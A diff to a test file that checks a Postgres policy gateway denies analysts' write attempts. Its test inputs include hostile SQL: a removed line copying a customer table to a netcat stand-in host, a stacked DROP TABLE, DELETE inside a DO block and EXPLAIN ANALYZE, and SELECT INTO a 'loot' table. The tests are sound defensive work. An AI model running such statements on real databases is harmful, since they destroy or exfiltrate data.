@@ -1,7 +1,8 @@
 /**
  * The SQL analyser's facts, fed to the compiled policy bundle as the proxy
  * will: proves the facts have the shape policies/postgres/postgres.rego
- * reads (kind, readonly, tables[].access, functions).
+ * reads (kind, readonly, read_write, tables[].access, functions, program,
+ * setting, value). tests/integration/pg-bypass.test.ts covers the bypasses.
  */
 import { join } from 'node:path';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
@@ -60,11 +61,10 @@ describe('analysed SQL through the compiled postgres policy', () => {
   });
 
   it.each([
-    ["COPY customers TO PROGRAM 'nc evil 9'", 'COPY is not read-only'],
-    ['DO $$ BEGIN DELETE FROM orders; END $$', 'DO is not read-only'],
+    ['DO $$ BEGIN DELETE FROM orders; END $$', 'DO runs a code block the gateway cannot inspect'],
     ['SELECT * INTO loot FROM customers', 'SELECT writes public.loot'],
-    ['EXPLAIN ANALYZE DELETE FROM orders', 'EXPLAIN writes public.orders'],
-    ['COMMIT', 'COMMIT is not read-only'],
+    ['EXPLAIN ANALYZE DELETE FROM orders', 'EXPLAIN ANALYZE writes public.orders'],
+    ['BEGIN READ WRITE', 'BEGIN ... READ WRITE starts a read-write transaction'],
     ['SELECT 1; DROP TABLE public.orders', 'DROP writes public.orders'],
   ])('denies an analyst %s as a write', async (sql, why) => {
     const d = await decide(analyst, sql);
@@ -74,6 +74,11 @@ describe('analysed SQL through the compiled postgres policy', () => {
 
   it('allows an analyst a plain EXPLAIN of a DELETE (it does not run)', async () => {
     expect((await decide(analyst, 'EXPLAIN DELETE FROM orders')).action).toBe('allow');
+  });
+
+  it('allows an analyst transaction control and harmless settings around reads', async () => {
+    const d = await decide(analyst, "SET statement_timeout = '5s'; BEGIN READ ONLY; SELECT email FROM customers; COMMIT");
+    expect(d.reasons).toEqual(['allowed by grant analysts-read-orders: read access to orders-db']);
   });
 
   it('allows a DBA the DELETE and pg_read_file', async () => {
